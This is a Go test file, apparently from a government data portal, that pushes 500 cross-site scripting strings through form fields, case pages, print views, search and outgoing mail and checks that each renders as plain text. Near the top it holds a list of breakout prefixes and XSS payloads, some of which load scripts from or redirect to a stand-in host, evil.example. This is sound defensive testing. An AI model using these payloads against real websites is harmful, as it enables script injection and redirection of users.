package web

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"mydata.nat.gov.tw/portal/pkg/account"
	"mydata.nat.gov.tw/portal/pkg/casefile"
	"mydata.nat.gov.tw/portal/pkg/chain"
	"mydata.nat.gov.tw/portal/pkg/form"
	"mydata.nat.gov.tw/portal/pkg/onboarding"
)

// Each way out of where a text may stand is tried with each of the payloads.
var (
	waysOut = []string{``, `">`, `'>`, `"'>`, `</p>`, `</textarea>`, `</title>`, `</script>`, `</option></select>`, `-->`, `]]>`, `</dd></dl>`, `</td></tr></table>`,
		`" autofocus tabindex=1 onfocus=alert(1) x="`, `' onmouseover=alert(1) x='`, "`", `</noscript>`, `</style>`, `&quot;>`, `%22%3E`, "\u003e", `{{"">}}`, `"/>`, `</h1>`, `\">`}
	payloads = []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe src=javascript:alert(1)>`, `<body onload=alert(1)>`,
		`<a href=javascript:alert(1)>x</a>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<link rel=stylesheet href=//evil.example/a.css>`,
		`<details open ontoggle=alert(1)>`, `<math><mi xlink:href=javascript:alert(1)>`, `<form action=//evil.example><button>x`, `<ScRiPt src=//evil.example/a.js></ScRiPt>`,
		`<object data=javascript:alert(1)>`, `<embed src=//evil.example>`, `<style>*{background:url(//evil.example)}</style>`, `<video><source onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
		`<marquee onstart=alert(1)>`, `{{printf "%s" .}}<b onclick=alert(1)>`}
)

// injections are 500 texts that would do something anywhere but in their place.
func injections() []string {
	var list []string
	for _, out := range waysOut {
		for _, payload := range payloads {
			list = append(list, out+payload)
		}
	}
	return list
}

// madeUpOf are the elements of a document with the names of their attributes, in
// order: what a text that stays text does not change.
func madeUpOf(root *html.Node) []string {
	var list []string
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			list = append(list, "comment")
		}
		if n.Type != html.ElementNode {
			continue
		}
		words := n.Data
		for _, a := range n.Attr {
			words += " " + a.Key
		}
		list = append(list, words)
	}
	return list
}

// leave puts a document where test/browser/injections opens it, if anybody asks.
func leave(t *testing.T, name, body string) {
	t.Helper()
	folder := os.Getenv(pagesFolder)
	if folder == "" {
		return
	}
	folder = filepath.Join(folder, "injections")
	if err := os.MkdirAll(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(folder, name+".html"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestTrust22_FiveHundredInjectionsStayText takes them through every text field
// of the form into its pages, and through a name, the rich text and an opinion
// into a case, its print, its lists and its mails.
func TestTrust22_FiveHundredInjectionsStayText(t *testing.T) {
	t.Parallel()
	list := injections()
	if len(list) < 500 {
		t.Fatalf("only %d", len(list))
	}
	var fields []form.Field
	for _, f := range form.On(form.Application) {
		if slices.Contains([]form.Kind{form.Text, form.URL, form.LongText, form.RichField, form.Addresses}, f.Kind) {
			fields = append(fields, f)
		}
	}
	const atOnce = 50 // in one rich text
	for n, part := range slices.Collect(slices.Chunk(list, atOnce)) {
		s := newSite(t)
		inDrafts(t, s, fields, part, fmt.Sprintf("form-%02d", n))
		inCases(t, s, part, fmt.Sprintf("case-%02d", n))
	}
}

// inDrafts types the texts into the fields, some into each, a form full at a time.
func inDrafts(t *testing.T, s *site, fields []form.Field, texts []string, name string) {
	const inOne = 4
	for n, part := range slices.Collect(slices.Chunk(texts, inOne*len(fields))) {
		hostile, plain := form.Defaults(), form.Defaults()
		for i, some := range slices.Collect(slices.Chunk(part, inOne)) {
			text := strings.Join(some, " ")
			set := func(v form.Values, text string) {
				if fields[i].Kind == form.RichField {
					text = form.FromText(text).Encode()
				}
				v.Set(fields[i].Key, text)
			}
			set(hostile, text)
			set(plain, harmlessly(text))
		}
		of, as := "/drafts/"+s.Draft(t, s.Officer, hostile), "/drafts/"+s.Draft(t, s.Officer, plain)
		for _, section := range append([]string{"preview"}, sections()...) {
			same(t, s.as(s.Officer).get(of+"/"+section+"?check").want(http.StatusOK), s.as(s.Officer).get(as+"/"+section+"?check"), fmt.Sprintf("%s-%d-%s", name, n, section))
		}
	}
}

// harmlessly is a text of the same length without a meaning.
func harmlessly(text string) string {
	return strings.Map(func(r rune) rune {
		if r == ' ' {
			return r
		}
		return 'x'
	}, text)
}

func sections() []string {
	var list []string
	for _, section := range form.Application.Sections() {
		list = append(list, string(section))
	}
	return list
}

// inCases sends an application with the texts in its rich text and one as its
// name, has another as the reviewer's opinion, and looks at it from everywhere.
func inCases(t *testing.T, s *site, texts []string, name string) {
	filed := func(texts []string) string {
		number := s.submit(func(v form.Values) {
			v.Set(form.Name, texts[0])
			v.Set(form.Purpose, form.FromText(strings.Join(texts, "\n\n")).Encode())
		})
		s.decide(s.Bureau, number, chain.Return, casefile.FieldNote{Field: "name", Text: texts[1]})
		return number
	}
	plain := make([]string, len(texts))
	for i := range plain {
		plain[i] = harmlessly(texts[i])
	}
	before := len(s.Mail.Sent())
	of := filed(texts)
	s.Settle(t)
	between := len(s.Mail.Sent())
	as := filed(plain)
	s.Settle(t)
	for who, a := range map[string]account.Actor{"officer": s.Officer, "ops": s.Ops} {
		for _, page := range []string{"", "/print", "/history"} {
			same(t, s.as(a).get("/cases/"+of+page).want(http.StatusOK), s.as(a).get("/cases/"+as+page), name+"-"+who+strings.ReplaceAll(page, "/", "-"))
		}
		same(t, s.as(a).get("/search?q="+of).want(http.StatusOK), s.as(a).get("/search?q="+as), name+"-"+who+"-search")
	}
	sent := s.Mail.Sent()
	mails, twins := byReader(sent[before:between]), byReader(sent[between:])
	for n, mail := range mails {
		sameDocument(t, mail.HTML, twins[n].HTML, fmt.Sprintf("mail-%s-%d", name, n))
	}
}

// byReader orders mails of one kind of event alike.
func byReader(list []onboarding.Message) []onboarding.Message {
	return slices.SortedStableFunc(slices.Values(list), func(a, b onboarding.Message) int { return strings.Compare(a.To, b.To) })
}

func same(t *testing.T, got, twin *page, name string) {
	t.Helper()
	sameDocument(t, got.body, twin.body, name)
}

// sameDocument fails where a document is made of other elements than its twin of
// plain texts.
func sameDocument(t *testing.T, got, twin, name string) {
	t.Helper()
	leave(t, name, got)
	a, err := html.Parse(strings.NewReader(got))
	if err != nil {
		t.Fatal(err)
	}
	b, err := html.Parse(strings.NewReader(twin))
	if err != nil {
		t.Fatal(err)
	}
	is, want := madeUpOf(a), madeUpOf(b)
	if !slices.Equal(is, want) {
		i := 0
		for i < len(is) && i < len(want) && is[i] == want[i] {
			i++
		}
		t.Errorf("%s: element %d is %q, want %q", name, i, at(is, i), at(want, i))
	}
}

func at(list []string, i int) string {
	if i < len(list) {
		return list[i]
	}
	return "nothing"
}
